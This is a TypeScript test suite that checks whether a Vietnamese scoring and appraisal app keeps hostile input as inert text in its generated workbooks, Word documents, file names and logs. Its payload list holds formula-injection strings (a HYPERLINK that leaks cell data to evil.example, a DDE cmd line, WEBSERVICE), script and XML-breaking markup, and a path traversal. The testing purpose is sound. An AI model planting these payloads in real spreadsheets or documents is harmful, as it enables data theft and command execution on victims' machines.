/**
 * Every text that comes from a person or a file, hostile: a whole year is made with such names, reasons and entries, and
 * in everything the program writes out of it (sheets, packs, documents, lists, file names) they are text and nothing else.
 */
import { Workbook } from "@cj-tech-master/excelts";
import { SaxesParser } from "saxes";
import { buildCriteriaSet, type SetHeader } from "../../src/domain/buildCriteriaSet";
import type { CriteriaSet } from "../../src/domain/criteria";
import { assignAppraisers } from "../../src/features/assignAppraisers";
import { buildDeductions, buildLostPoints } from "../../src/features/buildDeductions";
import { buildReportExplanation } from "../../src/features/buildReportExplanation";
import { buildReportTables } from "../../src/features/buildReportTables";
import { applyCriteriaSet } from "../../src/features/applyCriteriaSet";
import { buildEvidenceIndex, prepareEvidence } from "../../src/features/listEvidence";
import { createEntryChecks } from "../../src/features/checkEntries";
import { keepLog } from "../../src/features/keepLog";
import { listDisagreements } from "../../src/features/listDisagreements";
import { logText } from "../../src/features/logText";
import { planIssue } from "../../src/features/planIssue";
import { publishPack } from "../../src/features/packContents";
import { packParts } from "../../src/features/packParts";
import { readPublishedYear } from "../../src/features/publishYear";
import { readSelfAssessment } from "../../src/features/publishSelfAssessment";
import { saveUnits } from "../../src/features/saveUnits";
import { setAsideItem } from "../../src/features/setAside";
import { quietWork } from "../../src/features/work";
import { resultLetters } from "../../src/files/docx/resultLetter";
import { resultsReport } from "../../src/files/docx/resultsReport";
import { selfReport } from "../../src/files/docx/selfReport";
import { writeWord } from "../../src/files/docx/writeWord";
import { issueFiles } from "../../src/files/issued/issueFiles";
import { writePack } from "../../src/files/publicationFile";
import { points } from "../../src/domain/points";
import { readUnits } from "../../src/files/unitsFile";
import { readIdentity } from "../../src/sheets/identity";
import { partsOf, paragraphsOf } from "../files/docx/unzip";
import { step } from "./year";
import { done, startWorkbench, type Workbench } from "./workbench";

/** What an attacker leaves behind: found again wherever it went. */
const mark = "evil.example";

/** Beginnings a spreadsheet takes for a formula, markup, entities, marks nobody sees, other letters of the same look. */
const hostile: readonly string[] = [
  `=HYPERLINK("http://${mark}/?"&A1,"Xem")`,
  `+cmd|' /C calc ${mark}'!A0`,
  `-2+3+WEBSERVICE("http://${mark}")`,
  `@SUM(1)*${mark}`,
  `\t=1+${mark}`,
  `<img src=x onerror=alert("${mark}")>`,
  `</w:t></w:r><script>${mark}</script>`,
  `&${mark};&#x3D;1+1]]>`,
  `\u202e${mark}\u202c Xã`,
  `X\u200bã\ufeff ${mark} 😀`,
  `Xa\u0303 ${mark}`,
  `'=1+1 ${mark}`,
  `"${mark}","=1+1"`,
  `{=1+1} ${mark}`,
  `../../${mark}/CON`,
];
const text = (index: number): string => hostile[index % hostile.length] ?? "";

function hostileSet(): CriteriaSet {
  const names = ["I", "1.1", "1.1.1", "1.1.2", "1.2", "II", "2.1", "2.2"];
  const maxima = [6, 3, 1, 2, 3, 4, 1.5, 2.5];
  const header: SetHeader = {
    id: "hostile",
    title: text(0),
    decision: { number: text(1), date: "2021-12-30", issuer: text(5) },
    level: "commune",
    language: "vi-VN",
    step: points(1),
    classification: {
      basis: "points",
      classes: [
        { name: text(0), atLeast: 800, fieldFloor: null },
        { name: text(5), atLeast: 500, fieldFloor: null },
        { name: text(3), atLeast: 0, fieldFloor: null },
      ],
    },
    maxima: "given",
  };
  const rows = names.map((code, index) => ({ row: index + 1, code, name: text(index), maximum: maxima[index] ?? 0 }));
  const built = buildCriteriaSet(rows, header);
  if (!built.ok) throw new Error(JSON.stringify(built.failure));
  return built.value;
}

const set = hostileSet();
const office = { parentAgency: text(0), agency: text(5), place: text(3) };
const leaves: Readonly<Record<string, number>> = { "1.1.1": 1, "1.1.2": 2, "1.2": 3, "2.1": 1.5, "2.2": 2.5 };
const now = new Date(Date.UTC(2025, 11, 1, 2, 30));

/** Typed with the apostrophe that makes it text, as a person would who does not mean a formula. */
function typeText(bench: Workbench, sheet: string, row: string, column: string, value: string): void {
  expect({ sheet, row, column, refused: bench.type(sheet, row, column, `'${value}`) }).toMatchObject({ refused: null });
}

async function hostileYear(): Promise<{ readonly bench: Workbench; readonly units: readonly string[] }> {
  const bench = await startWorkbench();
  const { port } = bench;
  done(await applyCriteriaSet(port, { set, office, year: 2025 }));
  done(await saveUnits(port, { names: hostile }));
  done(await assignAppraisers(port));
  const assignment = "Phân công thẩm định";
  ["member:1", "member:2"].forEach((column, index) => typeText(bench, assignment, "head", column, text(index)));
  for (const [row, column] of [
    ["node:I", "member:1"],
    ["node:1.2", "member:2"],
    ["node:II", "member:2"],
  ] as const)
    expect(bench.type(assignment, row, column, "x")).toBeNull();
  const year = { set, units: hostile, source: "scoringSheets" } as const;
  done(await step(bench, "sheets", year));
  const sheets = await scoringSheetsOf(bench);
  sheets.forEach((sheet, unit) => {
    for (const [code, maximum] of Object.entries(leaves)) {
      expect(bench.type(sheet, `node:${code}`, "self", maximum)).toBeNull();
      const column = code.startsWith("1.1") ? "member:1" : "member:2";
      expect(bench.type(sheet, `node:${code}`, column, maximum - (unit % 4) * 0.25)).toBeNull();
      if (code === "1.2") expect(bench.type(sheet, `node:${code}`, "member:1", maximum)).toBeNull();
      for (const free of ["evidence", "explanation", "note", "reason"])
        typeText(bench, sheet, `node:${code}`, free, text(unit + code.length));
    }
  });
  done(await prepareEvidence(port));
  hostile.forEach((each, index) => {
    if (index > 8) return;
    for (const column of ["unit", "docNumber", "agency", "subject", "file"])
      typeText(bench, "Tài liệu kiểm chứng", `document:${index}`, column, each);
    expect(bench.type("Tài liệu kiểm chứng", `document:${index}`, "code", "2.1")).toBeNull();
  });
  done(await step(bench, "table", year));
  done(await step(bench, "ranking", year));
  const units = hostile.map((_, index) => String(bench.value("Đơn vị", `unit:${index}`, "unit")));
  done(await setAsideItem(port, { unit: units[2] ?? "", code: "2.1", approver: text(0), reason: text(3) }, now));
  for (const build of [buildReportTables, buildDeductions, buildEvidenceIndex, listDisagreements])
    done(await build(port));
  done(await buildLostPoints(port, { basis: "appraisal" }));
  done(await buildReportExplanation(port, { now }));
  return { bench, units };
}

async function scoringSheetsOf({ port }: Workbench): Promise<readonly string[]> {
  const { sheets } = await port.survey([]);
  return sheets.filter(({ identity }) => readIdentity(identity)?.identity.kind === "scoring").map(({ name }) => name);
}

/** What of a workbook could act: formulas that hold a hostile text outside a quoted name or text, links, outside references. */
async function active(bytes: Uint8Array): Promise<readonly string[]> {
  const book = new Workbook();
  await book.xlsx.load(bytes);
  const found: string[] = [];
  const judge = (place: string, formula: string): void => {
    const bare = formula.replace(/'(?:[^']|'')*'!/g, "").replace(/"(?:[^"]|"")*"/g, "");
    if (bare.includes(mark) || /HYPERLINK|WEBSERVICE|cmd|\[/i.test(bare)) found.push(`${place}: ${formula}`);
  };
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        judge(`${sheet.name}!${cell.address}`, cell.formula ?? "");
        if (cell.hyperlink !== undefined) found.push(`${sheet.name}!${cell.address} is a link`);
      }),
    );
    for (const [address, rule] of Object.entries(sheet.dataValidations.model))
      for (const formula of rule !== undefined && "formulae" in rule ? rule.formulae : [])
        judge(`${sheet.name}!${address} rule`, String(formula));
  }
  const parts = await partsOf(bytes);
  for (const [path, content] of parts) {
    if (/externalLink|connections|vbaProject/.test(path)) found.push(path);
    if (/TargetMode="External"/.test(new TextDecoder().decode(content))) found.push(`${path} leads outside`);
  }
  return found;
}

/** Texts of a workbook's cells that hold the mark. */
async function shown(bytes: Uint8Array): Promise<readonly string[]> {
  const book = new Workbook();
  await book.xlsx.load(bytes);
  const found: string[] = [];
  for (const sheet of book.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => found.push(String(cell.formula === undefined ? cell.value : cell.result))),
    );
  return found.filter((each) => each.includes(mark));
}

function refusedRows(outcome: ReturnType<typeof planIssue>): readonly unknown[] {
  if (outcome.ok) throw new Error("nothing was refused");
  return outcome.failure.filter(({ code }) => code === "unit-name-formula").map(({ at }) => at.row);
}

/** Markup of a document that a text has become: elements of another kind, or a text that leads outside. */
async function markup(bytes: Uint8Array): Promise<readonly string[]> {
  const found: string[] = [];
  for (const [path, content] of await partsOf(bytes)) {
    if (!/\.(xml|rels)$/.test(path)) continue;
    const xml = new TextDecoder().decode(content);
    const faults: string[] = [];
    const parser = new SaxesParser();
    parser.on("error", ({ message }) => faults.push(message));
    parser.write(xml).close();
    const elements = [...xml.matchAll(/<\/?(script|img)\b[^>]*>/gi)].map(([element]) => element);
    // Links of a document are elements, fields or relations.
    const links = /TargetMode="External"|<w:hyperlink|<w:(?:instrText|fldSimple)[^>]*(?:>[^<]*)?HYPERLINK/.test(xml)
      ? ["a link"]
      : [];
    found.push(...[...faults, ...elements, ...links].map((each) => `${path}: ${each}`));
  }
  return found;
}

describe("hostile texts from people and files", () => {
  let bench: Workbench;
  let units: readonly string[];

  beforeAll(async () => {
    ({ bench, units } = await hostileYear());
  }, 120_000);

  it("stay text on every sheet of a year, and are shown as they were written", async () => {
    const bytes = await bench.save();
    expect(await active(bytes)).toEqual([]);
    const texts = await shown(bytes);
    // Blanks around a name, and the mark that counts as one of two blanks, belong to no name.
    for (const each of units) expect(texts).toContain(each);
    expect(units).toEqual(hostile.map((each) => each.normalize("NFC").replace("\ufeff ", " ").trim()));
  });

  it("give sheets names that Excel takes, each its own", async () => {
    const names = await scoringSheetsOf(bench);
    expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(hostile.length);
    for (const name of names) expect(name).toMatch(/^(?!')[^[\]:*?/\\]{1,31}(?<!')$/u);
  });

  it("stay text in the decision pack, as values and as formulas", async () => {
    const parts = new Set(packParts.filter((part) => part !== "comparison"));
    const published = await publishPack(bench.port, { parts, time: now });
    if (!published.ok) throw new Error(JSON.stringify(published.failure));
    for (const content of ["values", "formulas"] as const) {
      const bytes = await writePack(published.value.pack, content);
      expect({ content, found: await active(bytes) }).toEqual({ content, found: [] });
      expect(await shown(bytes)).toContain(units[0]);
    }
  }, 120_000);

  it("stay text in report, letters and self-assessment", async () => {
    const year = await readPublishedYear(bench.port);
    const assessed = await readSelfAssessment(bench.port, units[0] ?? "");
    if (!year.ok || !assessed.ok) throw new Error(JSON.stringify([year, assessed]));
    const documents = [
      await resultsReport(year.value),
      resultLetters(year.value, year.value.ranking.rows),
      selfReport(assessed.value),
    ];
    for (const document of documents) {
      const bytes = await writeWord(document);
      expect(await markup(bytes)).toEqual([]);
      expect((await paragraphsOf(bytes)).join("\n")).toContain(units[0]);
    }
  }, 120_000);

  it("stay text in issued workbooks, whose files have harmless names", async () => {
    const planFor = (names: readonly string[]): ReturnType<typeof planIssue> => {
      const rows = [["name", "code"], ...names.map((each, index) => [each, text(index + 1)])];
      const grid = { at: { file: "đơn vị.tsv" }, rows: rows.map((cells, index) => ({ row: index + 1, cells })) };
      const read = readUnits(grid);
      if (!read.ok) throw new Error(JSON.stringify(read.failure));
      return planIssue({ set, office, year: 2025, units: read.value, deadline: null, appraisal: null });
    };
    // A list for issuing comes from another program: names that begin as formulas are refused there, each with its row.
    expect(refusedRows(planFor(hostile))).toEqual([2, 3, 4, 5, 6]);
    const plan = planFor(hostile.slice(5));
    if (!plan.ok) throw new Error(JSON.stringify(plan.failure));
    for await (const { issued, bytes } of issueFiles(plan.value, now)) {
      expect(await active(bytes)).toEqual([]);
      expect(issued.file).toMatch(/^[^<>:"/\\|?*\p{Cc}.\s][^<>:"/\\|?*\p{Cc}]*\.xlsx$/u);
    }
    expect(new Set(plan.value.files.map(({ file }) => file.toLowerCase())).size).toBe(hostile.length - 5);
  }, 120_000);

  it("stay text in the log and in its export", async () => {
    const checks = createEntryChecks(bench.port, { findSet: () => null, now: () => now });
    await checks.checkAll(quietWork);
    const [sheet = ""] = await scoringSheetsOf(bench);
    hostile.forEach((each, index) => {
      if (index < 5) typeText(bench, sheet, `node:${Object.keys(leaves)[index] ?? ""}`, "note", `${each} 2`);
    });
    await checks.checkTouched([bench.sheet(sheet).id]);
    done(await keepLog(bench.port, checks, { zoneOffset: -420 }));
    expect(await active(await bench.save())).toEqual([]);
    const cells = (await logText(bench.port)).split(/\r\n|\t/);
    expect(cells.filter((cell) => cell.includes(mark)).length).toBeGreaterThan(5);
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell) && cell.includes(mark))).toEqual([]);
  });
});
